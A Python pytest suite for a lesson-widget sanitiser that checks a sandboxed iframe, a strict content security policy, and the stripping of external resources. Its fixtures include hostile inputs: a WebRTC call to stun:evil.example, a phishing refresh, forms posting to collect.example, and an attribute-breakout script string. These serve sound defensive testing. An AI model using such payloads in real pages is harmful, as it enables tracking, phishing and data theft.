import html
import re

import pytest
from support.widget_cases import ALL, GOOD, Hostile

from core.lessons import RefusedWidget, SanitisedWidget, sanitise_widget, widget_file_name
from core.lessons.widgets import CSP


def _ok(source: str) -> SanitisedWidget:
    result = sanitise_widget(source)
    assert isinstance(result, SanitisedWidget), result
    return result


def _refused(source: str) -> str:
    result = sanitise_widget(source)
    assert isinstance(result, RefusedWidget), result
    return result.reason


_FRAME = re.compile(r'<iframe sandbox="([^"]*)" title="[^"]*" srcdoc="([^"]*)"></iframe>')


def _frame(page: str) -> tuple[str, str]:
    """The sandbox flags and the document of the page's one frame."""
    [(flags, srcdoc)] = _FRAME.findall(page)
    return flags, html.unescape(srcdoc)


def test_a_widget_runs_in_a_sandboxed_frame_under_a_strict_csp() -> None:
    page = _ok(GOOD).html.decode()
    policy = f'<meta http-equiv="Content-Security-Policy" content="{CSP}">'
    for directive in ("default-src 'none'", "form-action 'none'", "base-uri 'none'",
                      "frame-src 'none'", "img-src data:"):  # fmt: skip
        assert directive in CSP
    assert page.index(policy) < page.index("<title>Slope explorer</title>")
    flags, frame = _frame(page)
    assert flags == "allow-scripts"  # no same-origin, top navigation, pop-ups, forms
    assert frame.index(policy) < frame.index("<body>")
    assert "<script" not in page.replace(frame, "")  # all code is inside the frame
    assert "function update()" in frame and 'oninput="update()"' in frame
    assert "url(data:image/png;base64,AAAA)" in frame
    assert frame.count("<script>") == 1


_REFUSED = [case for case in ALL if case.refused]
_CONTAINED = [case for case in ALL if not case.refused]


@pytest.mark.parametrize("case", _REFUSED, ids=lambda case: case.name)
def test_widgets_that_cannot_work_are_refused(case: Hostile) -> None:
    assert case.refused in _refused(case.aimed_at("https://evil.example"))


@pytest.mark.parametrize("case", _CONTAINED, ids=lambda case: case.name)
def test_hostile_scripts_are_sent_only_inside_the_sandboxed_frame(case: Hostile) -> None:
    """However a script spells its way out, it is contained by the frame, not by spelling
    (tests/core/lessons/test_widget_isolation.py runs each in a browser)."""
    page = _ok(case.aimed_at("https://evil.example")).html.decode()
    flags, frame = _frame(page)
    assert flags == "allow-scripts"
    outside = page.replace(html.escape(frame, quote=True), "")
    assert "evil.example" not in outside and "<script" not in outside


def test_a_plain_webrtc_connection_is_refused() -> None:
    source = "<script>new RTCPeerConnection({iceServers: [{urls: 'stun:evil.example'}]})</script>"
    assert "WebRTC" in _refused(source)


def test_a_script_split_across_parser_chunks_is_still_checked_whole() -> None:
    source = "<script>var a = 1;\n" + " " * 5000 + "new RTCPeerConnection()</script>"
    assert "WebRTC" in _refused(source)


def test_external_resources_and_posting_forms_are_removed() -> None:
    source = (
        '<link rel="stylesheet" href="https://cdn.example/x.css">'
        '<meta http-equiv="refresh" content="0;url=https://phish.example">'
        '<base href="https://evil.example/">'
        '<img src="https://tracker.example/p.gif" alt="pixel">'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="ok">'
        '<iframe src="https://evil.example"></iframe>'
        '<style>@import url("https://x/y.css"); p { background: url(https://x/bg.png) }</style>'
        '<form action="https://collect.example/" method="post"><input name="a">'
        '<button formaction="https://collect.example/2">send</button></form>'
        '<a href="https://elsewhere.example">a link</a> <a href="#part2">inside</a>'
        "<object data='x.swf'>fallback</object><p>text stays</p>"
    )
    result = _ok(source)
    _, out = _frame(result.html.decode())
    for gone in (
        "cdn.example", "phish.example", "evil.example", "tracker.example", "collect.example",
        "elsewhere.example", "@import", "x/bg.png", "<iframe", "<object", "<base", "method=",
        "fallback",
    ):  # fmt: skip
        assert gone not in out, gone
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in out
    assert 'href="#part2"' in out
    assert "<form>" in out and "text stays" in out
    assert "<link>" in result.removed and "<iframe>" in result.removed


def test_markup_cannot_escape_its_attribute_or_close_the_document_early() -> None:
    out = _ok('<p title="&quot;><script>fetch(1)</script>">x</p></body></html><p>after</p>')
    _, frame = _frame(out.html.decode())
    assert "<script>" not in frame  # the quote stayed inside the attribute, escaped
    assert frame.rstrip().endswith("</html>") and frame.count("</html>") == 1
    assert "after" in frame


def test_unknown_elements_keep_their_text_only() -> None:
    _, out = _frame(
        _ok("<blink>Look</blink><custom-el onclick='x()'>here</custom-el>").html.decode()
    )
    assert "Look" in out and "here" in out and "<blink" not in out and "custom-el" not in out


def test_widget_file_names_are_per_slide() -> None:
    assert widget_file_name(3) == "slide-03-widget.html"
